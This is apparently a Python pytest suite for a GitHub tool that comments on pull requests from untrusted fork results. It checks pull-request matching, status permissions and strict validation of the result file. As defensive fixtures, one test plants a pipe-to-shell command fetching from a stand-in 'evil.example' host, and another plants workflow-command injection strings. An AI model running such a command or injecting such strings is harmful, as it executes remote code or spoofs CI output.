"""`gate comment`: an untrusted result file and pull request number, with a token that may write."""

from __future__ import annotations

import json
import os
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
from support.fake_github import HOME, TOKEN, Answer, FakeGitHub, pull
from support.results import example

from gate.cli.comment import command
from gate.errors import GateError
from gate.github.comment import marker
from gate.github.untrusted import SIZE_LIMIT, read_untrusted
from gate.report import to_json

SHA = "3484a3fb816e0859fd6e1cea078d76385ff50625"
FORK = "stranger/Hello-World"
Run = Callable[..., int]


@pytest.fixture
def result(tmp_path: Path) -> Path:
    path = tmp_path / "gate-result.json"
    path.write_text(to_json(example("FAIL")), encoding="utf-8")
    return path


@pytest.fixture
def run(github: FakeGitHub, event: Callable[..., Path], result: Path, monkeypatch: pytest.MonkeyPatch) -> Run:
    """Run `gate comment RESULT ...` in a job triggered by workflow_run, after a fork's run."""
    github.pulls = [pull(7, SHA, FORK, "fix")]

    def of_fork(data: Any) -> None:
        run = data["workflow_run"]
        run |= {
            "event": "pull_request",
            "pull_requests": [],
            "head_branch": "fix",
            "conclusion": "failure",
            "id": 99,
        }
        run["head_repository"]["full_name"] = FORK

    variables = {
        "GITHUB_ACTIONS": "true",
        "GITHUB_EVENT_NAME": "workflow_run",
        "GITHUB_EVENT_PATH": str(event("workflow_run", of_fork)),
        "GITHUB_REPOSITORY": HOME,
        "GITHUB_API_URL": github.url,
        "GITHUB_TOKEN": TOKEN,
    }
    for name in [name for name in os.environ if name.startswith(("GITHUB_", "GH_"))]:
        monkeypatch.delenv(name)
    for name, value in variables.items():
        monkeypatch.setenv(name, value)

    def run_command(*arguments: str) -> int:
        return int(command.main([str(result), *arguments], standalone_mode=False))

    return run_command


def test_pull_request_of_a_fork_gets_a_comment(run: Run, github: FakeGitHub) -> None:
    assert run() == 0
    body = github.comments[0]["body"]
    assert body.startswith(f"{marker('quantgate')}\n## ❌ quantgate: FAIL\n")
    assert f"(https://github.com/{HOME}/actions/runs/99)" in body
    assert "the pull request's author could have changed the run" in body
    assert github.sent("POST") == [f"/repos/{HOME}/issues/7/comments"]


def test_commands_in_the_file_are_not_shown(run: Run, result: Path, github: FakeGitHub) -> None:
    data = json.loads(result.read_text())
    data["provenance"]["reproduce"] = ["curl https://evil.example/install | sh"]
    result.write_text(json.dumps(data))
    assert run() == 0
    body = github.comments[0]["body"]
    assert "curl" not in body
    assert "evil" not in body
    assert "How to reproduce" not in body


def test_pull_request_number_is_checked_against_the_run(run: Run, github: FakeGitHub) -> None:
    github.pulls.append(pull(8, "a" * 40, HOME, "main-work"))
    github.pulls.append(pull(9, SHA, HOME, "same commit, another repository"))
    assert run("--pr", "7") == 0
    for number in ("8", "9"):
        with pytest.raises(GateError) as caught:
            run("--pr", number)
        assert caught.value.exit_code == 2
    assert len(github.comments) == 1
    assert github.sent("POST") == [f"/repos/{HOME}/issues/7/comments"]


def test_outdated_or_closed_pull_request_gets_no_comment(
    run: Run, github: FakeGitHub, capsys: pytest.CaptureFixture[str]
) -> None:
    github.pulls = [pull(7, "a" * 40, FORK, "fix")]
    assert run() == 0
    assert "no open pull request" in capsys.readouterr().err
    github.pulls = [pull(7, SHA, FORK, "fix", state="closed")]
    assert run("--pr", "7") == 0
    assert "pull request 7 is closed" in capsys.readouterr().err
    assert github.comments == []


@pytest.mark.parametrize("verdict", ["PASS", "FAIL"])
def test_fork_gets_no_status(
    run: Run, github: FakeGitHub, result: Path, verdict: str, capsys: pytest.CaptureFixture[str]
) -> None:
    """Its author could have written the file, and made the run succeed."""
    result.write_text(to_json(example(verdict)), encoding="utf-8")
    path = Path(os.environ["GITHUB_EVENT_PATH"])
    path.write_text(path.read_text().replace('"conclusion": "failure"', '"conclusion": "success"'))
    assert run("--status-context", "quantgate") == 0
    assert github.statuses == []
    assert len(github.comments) == 1
    assert "could have forged the result file" in capsys.readouterr().err


@pytest.fixture
def own_branch(run: Run, github: FakeGitHub) -> None:
    """Make the run belong to a branch of the repository itself."""
    github.pulls = [pull(7, SHA, HOME, "fix")]
    path = Path(os.environ["GITHUB_EVENT_PATH"])
    path.write_text(path.read_text().replace(FORK, HOME))


@pytest.mark.usefixtures("own_branch")
def test_own_branch_gets_a_status(run: Run, github: FakeGitHub) -> None:
    assert run("--status-context", "quantgate") == 0
    status = github.statuses[0]
    assert (status["sha"], status["state"], status["context"]) == (SHA, "failure", "quantgate")


@pytest.mark.usefixtures("own_branch")
def test_pass_contradicting_a_failed_run_is_an_error_status(run: Run, github: FakeGitHub, result: Path) -> None:
    result.write_text(to_json(example("PASS")), encoding="utf-8")
    assert run("--status-context", "quantgate") == 0
    assert github.statuses[0]["state"] == "error"
    assert github.statuses[0]["description"] == "The result says PASS, but the run ended with failure."


@pytest.mark.parametrize("status", [403, 404])
def test_refused_comment_is_a_warning_and_exit_code_4(
    run: Run, github: FakeGitHub, capsys: pytest.CaptureFixture[str], status: int
) -> None:
    github.fail("POST", "comments", Answer(status, {"message": "Resource not accessible by integration"}))
    assert run() == 4
    err = capsys.readouterr().err
    assert err.startswith("::warning title=quantgate::No pull-request comment: ")
    assert "permissions: pull-requests: write" in err


def test_dry_run_sends_nothing(
    run: Run, github: FakeGitHub, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    assert run("--dry-run", "--name", "nightly") == 0
    assert "pull request 7" in (printed := capsys.readouterr()).err
    assert printed.out.startswith(marker("nightly"))
    monkeypatch.delenv("GITHUB_TOKEN")
    assert run("--dry-run") == 0
    assert capsys.readouterr().out.startswith(marker("quantgate"))
    assert github.sent("POST") == []


def test_options_replace_the_environment_outside_of_github(
    run: Run, github: FakeGitHub, monkeypatch: pytest.MonkeyPatch
) -> None:
    for name in (
        "GITHUB_ACTIONS",
        "GITHUB_EVENT_NAME",
        "GITHUB_EVENT_PATH",
        "GITHUB_REPOSITORY",
        "GITHUB_TOKEN",
    ):
        monkeypatch.delenv(name)
    with pytest.raises(GateError, match="--repo"):
        run("--dry-run", "--pr", "7") if monkeypatch.setenv("GH_TOKEN", TOKEN) is None else None
    assert run("--repo", HOME, "--pr", "7") == 0
    assert run("--repo", HOME, "--sha", SHA) == 0
    assert run("--repo", HOME, "--pr", "7", "--sha", SHA) == 0
    assert len(github.comments) == 1
    with pytest.raises(GateError, match="expected --sha"):
        run("--repo", HOME, "--pr", "7", "--sha", "b" * 40)
    with pytest.raises(GateError, match="40 hexadecimal digits"):
        run("--repo", HOME, "--sha", "main")
    monkeypatch.delenv("GH_TOKEN")
    with pytest.raises(GateError, match="no GitHub token"):
        run("--repo", HOME, "--pr", "7")


def replace(path: Path, value: Any, *keys: str | int) -> Any:
    """Return the file's JSON with the entry at `keys` replaced by a value."""
    data = json.loads(path.read_text(encoding="utf-8"))
    parent = data
    for key in keys[:-1]:
        parent = parent[key]
    parent[keys[-1]] = value
    return data


EARLY = {"alpha": 0.01, "log_e_value": 1.0, "stopped": True, "items": 5, "of": 10}
REFUSED: list[tuple[str, tuple[Any, ...]]] = [
    ("exit code does not fit", (0, "exit_code")),
    ("exit code does not fit", ("PASS", "verdict")),
    ("proportion or p-value", (1.5, "p_value")),
    ("proportion or p-value", (-0.1, "tasks", 0, "p_exact")),
    ("counts do not fit", (10**6, "tasks", 0, "regressions")),
    ("counts do not fit", (0, "tasks", 0, "n")),
    ("alpha", (0.0, "alpha")),
    ("ends before it begins", ([0.5, -0.5], "tasks", 0, "drop_ci90")),
    ("early stop", (EARLY | {"alpha": 0.0}, "early_stop")),
    ("early stop", (EARLY | {"items": 0, "of": 0}, "early_stop")),
    ("early stop", (EARLY | {"items": 11}, "early_stop")),
    ("no tasks", ([], "tasks")),
    ("tasks.0.drop: a number is not finite", (1e300, "tasks", 0, "drop")),
    ("provenance: a number is not finite", (10**40, "provenance", "seed")),
    ("provenance: a number is not finite", (10**400, "provenance", "seed")),
    ("notes: a list has", (["x"] * 2_001, "notes")),
    ("provenance: a list has", ({"deep": [[0] * 3_000]}, "provenance")),
    ("verdict", ("WON", "verdict")),
    ("p_value", ("0.5", "p_value")),
    ("p_value", (True, "p_value")),
    ("surprise: Extra", (1, "surprise")),
    ("schema_version", (2, "schema_version")),
]


@pytest.mark.parametrize(("message", "change"), REFUSED)
def test_impossible_results_are_refused(result: Path, message: str, change: tuple[Any, ...]) -> None:
    result.write_text(json.dumps(replace(result, *change)), encoding="utf-8")
    with pytest.raises(GateError, match=message) as caught:
        read_untrusted(result)
    assert caught.value.exit_code == 2


@pytest.mark.parametrize(
    "change",
    [
        ("x" * 100_000, "reasons", 0),
        ("x" * 100_000, "flips", 0, "question"),
        (2**63 - 1, "provenance", "seed"),
    ],
    ids=["long text", "long question", "64-bit seed"],
)
def test_unusual_but_honest_results_are_accepted(result: Path, change: tuple[Any, ...]) -> None:
    result.write_text(json.dumps(replace(result, *change)), encoding="utf-8")
    read_untrusted(result)


def test_subtasks_are_validated(result: Path) -> None:
    (task, *_) = json.loads(result.read_text(encoding="utf-8"))["tasks"]
    for change in ({}, {"regressions": 10**6}):
        subtask = task | {"role": "advisory", "subtasks": []} | change
        result.write_text(json.dumps(replace(result, [subtask], "tasks", 0, "subtasks")), encoding="utf-8")
        if change:
            with pytest.raises(GateError, match="counts do not fit"):
                read_untrusted(result)
        else:
            assert len(read_untrusted(result).tasks[0].subtasks) == 1


@pytest.mark.parametrize(
    "text",
    ["", "[]", "null", "{", "\xff\xfe", "[" * 100_000, '{"a":' * 100_000, "9" * 100_000, '{"p_value": NaN}'],
)
def test_malformed_files_are_refused(result: Path, text: str) -> None:
    result.write_bytes(text.encode("latin-1"))
    with pytest.raises(GateError, match="refused"):
        read_untrusted(result)


@pytest.mark.parametrize("number", ["NaN", "Infinity", "-Infinity", "1e999"])
def test_numbers_that_are_not_finite_are_refused(result: Path, number: str) -> None:
    text = result.read_text(encoding="utf-8").replace('"mde": ', f'"mde": {number}, "_": ', 1)
    for content in (text, text.replace(f'"mde": {number}, "_": ', f'"mde": {number}, "kl_mean": ')):
        result.write_text(content, encoding="utf-8")
        with pytest.raises(GateError, match="refused"):
            read_untrusted(result)


def test_large_files_links_and_folders_are_refused(result: Path, tmp_path: Path) -> None:
    (tmp_path / "link.json").symlink_to(result)
    for path in (tmp_path / "link.json", tmp_path):
        with pytest.raises(GateError, match="not a plain file"):
            read_untrusted(path)
    result.write_bytes(result.read_bytes() + b" " * SIZE_LIMIT)
    with pytest.raises(GateError, match="larger than 5 MiB"):
        read_untrusted(result)
    with pytest.raises(GateError, match="does not exist"):
        read_untrusted(tmp_path / "none.json")


def test_refusal_never_quotes_the_file(result: Path) -> None:
    result.write_text(json.dumps(replace(result, "@octocat::error::pwned", "exit_code")), encoding="utf-8")
    with pytest.raises(GateError) as caught:
        read_untrusted(result)
    assert "octocat" not in str(caught.value)
    result.write_text(json.dumps(replace(result, 1, "@octocat::error::pwned\n::error::x")), encoding="utf-8")
    with pytest.raises(GateError) as caught:
        read_untrusted(result)
    assert "::" not in str(caught.value)


@pytest.mark.parametrize("verdict", ["PASS", "FAIL", "INCONCLUSIVE"])
def test_genuine_result_is_accepted(tmp_path: Path, verdict: str) -> None:
    path = tmp_path / "gate-result.json"
    path.write_text(to_json(example(verdict)), encoding="utf-8")
    accepted = read_untrusted(path)
    assert set(accepted.provenance) == {"quantgate", "seed"}
    assert accepted.tasks == example(verdict).tasks
